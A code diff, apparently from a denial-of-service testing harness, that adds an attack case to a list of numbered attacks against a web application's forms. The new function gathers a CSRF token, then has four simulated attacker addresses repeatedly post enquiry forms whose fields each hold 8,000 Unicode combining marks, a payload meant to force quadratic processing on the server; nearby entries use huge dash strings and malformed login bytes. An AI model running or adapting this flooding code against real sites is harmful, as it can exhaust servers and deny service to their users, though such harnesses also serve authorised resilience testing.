@@ -44,6 +44,37 @@ async function prepareDashes(target: Target) {
   };
 }
 
+/** As many as a field may have: to put them in order takes the square of their number. */
+const MARKS = "\u0344\u0334".repeat(4_000 - 50);
+
+/** Strangers post names and texts of marks that are to change places, as they are: percent-encoded four are too long. */
+async function prepareMarks(target: Target) {
+  const requests = await Promise.all(
+    Array.from({ length: 4 }, async (_, index) => {
+      const visitor = visitorOf(target, "ulan=en_US", attackerAddress(index + 1));
+      const csrf = (await visitor.open("/LeavingMessage")).field("csrf") ?? "";
+      const fields = { csrf, name: MARKS, email: MARKS, socialAccount: MARKS, message: MARKS };
+      const body = Buffer.from(
+        Object.entries(fields)
+          .map((pair) => pair.join("="))
+          .join("&"),
+      );
+      const headers = { ...formHeaders(target), Cookie: String(visitor.jar), "Content-Length": body.length };
+      return Buffer.concat([Buffer.from(headOf(target, "POST /LeavingMessage", headers)), body]);
+    }),
+  );
+  return async () => {
+    await Promise.all(
+      requests.map((request, index) =>
+        repeat({ atATime: 2, forMs: STRIKE_MS, times: 40 }, () =>
+          statusFor(target, request, { from: attackerAddress(index + 1), deadlineMs: 10_000 }),
+        ),
+      ),
+    );
+    return [];
+  };
+}
+
 /** No session, no token. */
 async function postBytes(target: Target, body: Buffer): Promise<string[]> {
   const head = headOf(target, "POST /Login", { ...formHeaders(target), "Content-Length": body.length });
@@ -81,6 +112,12 @@ export const EXPRESSIONS: readonly Attack[] = [
     sent: "10 × `certificateNumber` of 60,000 dashes to /RealNameInfo",
     accounts: 2,
     prepare: prepareDashes,
+  },
+  {
+    name: "enquiry-marks",
+    item: "13",
+    sent: "4 strangers, each with 40 enquiries whose four texts are 8,000 combining marks",
+    prepare: prepareMarks,
   },
   {
     name: "login-0xff",
